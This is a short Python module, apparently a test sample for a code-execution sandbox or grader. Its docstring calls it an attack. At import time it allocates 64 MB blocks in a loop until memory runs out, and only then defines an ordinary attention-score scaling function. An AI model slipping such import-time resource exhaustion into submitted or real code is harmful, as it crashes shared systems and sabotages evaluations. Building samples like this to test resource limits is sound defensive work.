"""Attack: hoard 64 MB blocks until memory runs out, at import time."""

import numpy as np

_hoard = []
for _ in range(100_000):
    _hoard.append(bytearray(64 << 20))


def scale_scores(scores, d_k):
    return np.asarray(scores) / np.sqrt(d_k)
